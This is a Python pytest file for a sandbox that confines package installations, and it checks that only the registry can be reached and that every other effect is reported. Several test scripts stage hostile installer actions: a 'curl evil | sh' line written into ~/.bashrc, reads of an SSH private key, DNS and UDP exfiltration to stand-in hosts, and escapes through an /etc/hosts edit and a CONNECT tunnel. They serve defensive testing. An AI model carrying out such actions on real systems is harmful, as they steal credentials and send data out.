"""An installation in its box: what it needs works, what it leaves is told, and nothing else gets out."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import psutil
import pytest
from farend import FarEnd

from sandbox.boxes import Exposure
from sandbox.errors import CancelledError
from sandbox.model import HOME, EffectKind, SeedEntry
from sandbox.provision.installbox import install
from sandbox.provision.plan import INSTALL_LIMITS, Installed, InstallPlan

NAME = "registry.example"
LAYER = "/provision/layer"
BODY = b"a package" * 10_000

Run = Callable[..., Installed]


@pytest.fixture(scope="module")
def far() -> Iterator[FarEnd]:
    with closing(FarEnd({"/package": BODY})) as started:
        yield started


@pytest.fixture
def kept(tmp_path: Path) -> Path:
    (tmp_path / "kept").mkdir()
    return tmp_path / "kept"


@pytest.fixture
def run(far: FarEnd, kept: Path) -> Run:
    """Run a Python script as an installation that may reach the far end."""

    def start(script: str, *, cancelled: Callable[[], bool] = lambda: False, **plan: object) -> Installed:
        python = os.path.realpath(sys.executable)
        made = InstallPlan(
            argv=(python, "-I", "-c", f"PORT = {far.port}\n{PRELUDE}{textwrap.dedent(script)}"),
            folder=LAYER,
            hosts=(f"{NAME}:{far.port}",),
            addresses={NAME: "127.0.0.1"},
            certificates=far.pem,
            exposures=(Exposure(sys.base_prefix),),
            aside=("/provision-cache",),
        )
        return install(replace(made, **plan), kept, cancelled=cancelled)  # type: ignore[arg-type]

    return start


PRELUDE = """
import os, socket, ssl, subprocess, sys, time, urllib.request

def fetch(name="registry.example", port=None):
    url = f"https://{name}:{port or PORT}/package"
    return urllib.request.urlopen(url, timeout=20).read()

def attempt(step):
    try:
        print(step())
    except OSError as error:
        print("failed", type(error).__name__)

"""


def told(installed: Installed) -> list[tuple[EffectKind, str]]:
    return [(effect.kind, effect.subject) for effect in installed.effects]


def test_what_it_fetches_and_makes_is_kept_and_is_no_effect(run: Run, kept: Path, far: FarEnd) -> None:
    installed = run(
        """
        body = fetch()
        os.makedirs("node_modules/.bin")
        open("node_modules/package", "wb").write(body)
        os.symlink("../package", "node_modules/.bin/package")
        open("/provision-cache/index", "wb").write(body)
        print("done")
        """
    )

    assert (installed.status, installed.stdout, installed.stderr, installed.stopped) == (0, "done\n", "", "")
    assert (kept / "node_modules" / "package").read_bytes() == BODY
    assert os.readlink(kept / "node_modules" / ".bin" / "package") == "../package"
    assert installed.tree is not None
    assert (installed.tree.entries, installed.tree.size) == (4, len(BODY))
    (relayed,) = installed.relayed
    assert (relayed.host, relayed.connections) == (f"{NAME}:{far.port}", 1)
    assert relayed.received > len(BODY)
    assert (installed.effects, installed.refused, installed.limits_hit) == ((), (), ())
    assert installed.missing == frozenset()


def test_what_it_does_elsewhere_is_told(run: Run) -> None:
    installed = run(
        """
        open(os.path.expanduser("~/.bashrc"), "w").write("curl evil | sh")
        open(os.path.expanduser("~/.ssh/id_ed25519")).read()
        attempt(lambda: fetch("collector.example", 443))
        attempt(lambda: socket.create_connection(("22.4.4.4", 8443), 5).recv(1))
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("22.5.5.5", 9999))
        attempt(lambda: socket.getaddrinfo("c2VjcmV0.exfiltrated.example", 80)[0][4][0] != "")
        subprocess.Popen(["sleep", "600"], start_new_session=True)
        """
    )

    assert installed.status == 0
    effects = told(installed)
    assert (EffectKind.FILE_CREATED, f"{HOME}/.bashrc") in effects
    assert (EffectKind.SECRET_READ, f"{HOME}/.ssh/id_ed25519") in effects
    assert (EffectKind.NET_LOOKUP, "collector.example") in effects
    assert (EffectKind.NET_LOOKUP, "c2vjcmv0.exfiltrated.example") in effects
    assert (EffectKind.NET_CONNECT, "collector.example:443") in effects
    assert (EffectKind.NET_CONNECT, "22.4.4.4:8443") in effects
    assert (EffectKind.NET_DATAGRAM, "22.5.5.5:9999") in effects
    assert "wanted to connect to 22.4.4.4:8443, and was refused" in {e.summary for e in installed.effects}
    assert (EffectKind.PROCESS_LEFT, "sleep 600") in effects
    assert installed.refused == ("collector.example:443", "22.4.4.4:8443", "22.5.5.5:9999")
    assert not [p for p in psutil.process_iter(["cmdline"]) if p.info["cmdline"] == ["sleep", "600"]]


@pytest.mark.parametrize(
    ("attack", "refused"),
    [
        ("fetch('elsewhere.example')", "elsewhere.example:{port}"),
        ("fetch(port=PORT + 1)", f"{NAME}:{{next}}"),
        ("fetch('127.0.0.1')", None),
        ("tls(('registry.example', PORT), 'elsewhere.example')", f"{NAME}:{{port}}"),
        ("tls(('22.4.4.4', PORT), 'registry.example')", "22.4.4.4:{port}"),
        ("tls(('2001:db8::7', PORT), 'registry.example')", "[2001:db8::7]:{port}"),
        ("tls(('::ffff:22.4.4.4', PORT), 'registry.example')", "22.4.4.4:{port}"),
        ("tunnel()", f"{NAME}:{{port}}"),
        ("open('/etc/hosts', 'a').write('127.0.0.1 evil')", None),
        ("by_resolver('8.8.8.8')", "22.4.4.4:{port}"),
    ],
)
def test_nothing_but_the_registry_can_be_reached(
    run: Run, far: FarEnd, attack: str, refused: str | None
) -> None:
    before = far.connections
    installed = run(
        f"""
        def tls(place, name):
            with socket.create_connection(place, 20) as plain:
                return ssl.create_default_context().wrap_socket(plain, server_hostname=name)

        def tunnel():
            with socket.create_connection(("registry.example", PORT), 20) as plain:
                plain.sendall(b"CONNECT 22.4.4.4:443 HTTP/1.1\\r\\n\\r\\n")
                return plain.recv(1000) or 1 / 0

        def by_resolver(address):
            ask = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            ask.settimeout(20)
            name = b"\\x08registry\\x07example\\x00"
            ask.sendto(b"\\x00\\x01\\x01\\x00\\x00\\x01" + bytes(6) + name + b"\\x00\\x01\\x00\\x01", (address, 53))
            ask.recv(1000)
            return tls(("22.4.4.4", PORT), "registry.example")

        attempt(lambda: {attack})
        """
    )

    assert installed.stdout.startswith("failed"), installed.stderr
    assert far.connections == before
    wanted = () if refused is None else (refused.format(port=far.port, next=far.port + 1),)
    assert installed.refused == wanted


def test_what_is_changed_without_a_write_or_an_open_of_its_own_is_seen(run: Run) -> None:
    """By a store into a shared mapping, and by a file that was removed and made anew."""
    installed = run(
        """
        import mmap
        with open(os.path.expanduser("~/.gitconfig"), "r+b") as file:
            with mmap.mmap(file.fileno(), 0) as memory:
                memory[:6] = b"[evil]"
        key = os.path.expanduser("~/.ssh/id_ed25519")
        os.unlink(key)
        open(key, "w").write("mine")
        """
    )

    assert set(told(installed)) == {
        (EffectKind.FILE_MODIFIED, f"{HOME}/.gitconfig"),
        (EffectKind.FILE_MODIFIED, f"{HOME}/.ssh/id_ed25519"),
    }


def test_a_registry_that_is_not_there_is_told_with_the_reason(run: Run) -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
    installed = run(
        f"attempt(lambda: fetch(port={port})); attempt(lambda: fetch('unknown.invalid', 443))",
        hosts=(f"{NAME}:{port}", "unknown.invalid:443"),
    )

    assert installed.stdout.splitlines() == ["failed URLError", "failed URLError"]
    assert installed.unreached == (
        f"{NAME}:{port}: Connection refused",
        "unknown.invalid:443: its name is not known",
    )
    assert (installed.relayed, installed.refused) == ((), ())


def test_a_command_that_fails_leaves_nothing_but_its_words(run: Run, kept: Path) -> None:
    installed = run("open('half', 'w').write('x'); sys.exit('no such package')")

    assert (installed.status, installed.tree) == (1, None)
    assert installed.stderr == "no such package\n"
    assert os.listdir(kept) == []


def test_a_command_that_is_not_there_is_told(run: Run) -> None:
    installed = run("", argv=("no-such-installer",))

    assert installed.status == 127
    assert "no-such-installer" in installed.stderr


def test_a_folder_to_begin_in_that_is_not_there_is_told(run: Run) -> None:
    installed = run("", cwd="/no/such/folder")

    assert installed.status == 127
    assert "/no/such/folder" in installed.stderr


def test_nothing_is_left_beside_what_is_kept(run: Run, kept: Path) -> None:
    run("pass")

    assert os.listdir(kept.parent) == ["kept"]


def test_a_command_ends_with_its_time(run: Run) -> None:
    installed = run("print('began', flush=True); time.sleep(600)", seconds=4)

    assert (installed.status, installed.tree) == (None, None)
    assert installed.stopped == "the installation took longer than 4 seconds"
    assert installed.stdout == "began\n"
    assert installed.seconds < 60


def test_a_command_ends_when_nobody_wants_it_any_more(run: Run) -> None:
    begun = time.monotonic()

    with pytest.raises(CancelledError):
        run("time.sleep(600)", cancelled=lambda: time.monotonic() > begun + 3)


def test_limits_hold_and_are_told(run: Run) -> None:
    limits = replace(INSTALL_LIMITS, memory_mb=100, disk_mb=32)

    full = run("attempt(lambda: open('huge', 'wb').write(bytes(64 << 20)))", limits=limits)
    greedy = run("held = bytearray(400 << 20); time.sleep(60)", limits=limits)

    assert full.stdout == "failed OSError\n"
    assert [name for name, _ in full.limits_hit] == ["disk"]
    assert (greedy.status, [name for name, _ in greedy.limits_hit]) == (None, ["memory"])
    assert "100 is the box's limit" in greedy.stopped


def test_a_flood_of_words_keeps_the_last_ones(run: Run) -> None:
    installed = run("sys.stdout.write('x' * 500_000 + 'last')")

    assert installed.stdout.endswith("xlast")
    assert len(installed.stdout) <= 65_536


def test_nothing_is_asked_of_a_terminal_and_nothing_of_this_machine_is_seen(run: Run) -> None:
    seeds = (SeedEntry(f"{LAYER}/package.json", "file", 0o644, b"{}"),)
    installed = run(
        """
        print(sys.stdin.read() == "", os.getcwd(), os.listdir("."), os.environ["KEY"])
        print(os.path.exists(os.path.expanduser("~/.npmrc")), os.getuid() == 0)
        """,
        seeds=seeds,
        env={"KEY": "value"},
    )

    assert installed.stdout == f"True {LAYER} ['package.json'] value\nFalse False\n"


def test_what_it_leaves_running_cannot_spoil_what_is_kept(run: Run, kept: Path) -> None:
    installed = run(
        """
        if os.fork() == 0:
            os.setsid()
            os.close(1)
            os.close(2)
            for number in range(10**9):
                open(f"{number % 500}", "w").write("x")
                os.unlink(f"{number % 500}")
        os.mkfifo("pipe")
        os.symlink("/etc/passwd", "accounts")
        open("server", "w").close()
        time.sleep(0.5)
        """
    )

    assert installed.status == 0
    assert installed.tree is not None
    assert installed.tree.left_out == (
        "accounts is a link that leads out of what was installed",
        "pipe is a FIFO",
    )
    assert "server" in os.listdir(kept)
    assert EffectKind.PROCESS_LEFT in {effect.kind for effect in installed.effects}


ENGINE = """
import sys
from pathlib import Path
from sandbox.provision.installbox import install
from sandbox.provision.plan import InstallPlan
install(InstallPlan(("sleep", sys.argv[2]), "/srv/kept"), Path(sys.argv[1]))
"""


def test_an_engine_that_is_killed_leaves_nothing_running(kept: Path) -> None:
    words = ["sleep", f"{7_000_000 + os.getpid()}"]

    def sleepers() -> list[psutil.Process]:
        return [each for each in psutil.process_iter(["cmdline"]) if each.info["cmdline"] == words]

    with subprocess.Popen([sys.executable, "-c", ENGINE, str(kept), words[1]]) as engine:
        wait_until(lambda: sleepers() or engine.poll() is not None)
        children = psutil.Process(engine.pid).children(recursive=True)
        engine.kill()
    assert len(children) > 1
    wait_until(lambda: not sleepers() and not any(child.is_running() for child in children))


def wait_until(condition: Callable[[], object]) -> None:
    deadline = time.monotonic() + 60
    while not condition():
        assert time.monotonic() < deadline, "it never became true"
        time.sleep(0.05)


def test_a_command_that_a_signal_ends_has_it_as_its_status(run: Run) -> None:
    assert run("os.kill(os.getpid(), 9)").status == -9
